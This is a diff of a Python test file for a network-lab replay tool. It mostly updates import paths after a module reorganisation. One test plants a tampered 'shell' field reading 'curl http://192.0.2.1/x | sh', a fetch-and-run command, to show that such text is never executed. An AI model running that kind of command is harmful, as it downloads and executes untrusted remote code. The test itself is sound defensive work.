@@ -13,12 +13,13 @@ import subprocess
 
 import pytest
 
-from netplay import builtins, logcheck
-from netplay.errors import InputError
-from netplay.log import FORMAT, VERSION
-from netplay.plan import plan
-from netplay.steps import Ref
-from netplay.topology import from_dict, with_runtime
+from netplay.load import builtins
+from netplay.run import logcheck
+from netplay.core.errors import InputError
+from netplay.run.log import FORMAT, VERSION
+from netplay.plan.build import plan
+from netplay.plan.steps import Ref
+from netplay.model.topology import from_dict, with_runtime
 
 from conftest import TEST_IMAGE, snapshot
 
@@ -318,7 +319,7 @@ def test_the_documented_example_is_a_log_whose_steps_pass_the_policy(tmp_path):
     import re
     from pathlib import Path
 
-    from netplay.log import read
+    from netplay.run.log import read
 
     doc = (Path(__file__).resolve().parent.parent / "docs" / "log-format.md").read_text()
     example = re.search(r"```json\n(.*?)```", doc, re.S).group(1)
@@ -391,7 +392,7 @@ def test_replay_announces_each_node_command_as_the_runner_is_about_to_run_it():
     """The runner calls its echo with each resolved command; replay's echo says which are
     node commands, a container's PID matching its captured value, and passes every one
     on to -v's echo."""
-    from netplay.replay import announcing
+    from netplay.lab.replay import announcing
 
     said, echoed = [], []
     each = announcing(plan(EXEC), said.append, echoed.append)
@@ -491,7 +492,7 @@ def test_docker_binds_are_not_replayed_from_a_log(tmp_path):
 def test_the_shell_fields_are_for_people_and_never_used(tmp_path):
     """`shell` and `undo_shell` repeat argv for readers; a tampered one changes nothing:
     dry runs and exports render each step from its checked argv."""
-    from netplay.export import build_script, teardown_script
+    from netplay.render.bash import build_script, teardown_script
 
     data = copy.deepcopy(LEVELS)
     data["steps"][ADD_LEVELA]["shell"] = "curl http://192.0.2.1/x | sh"
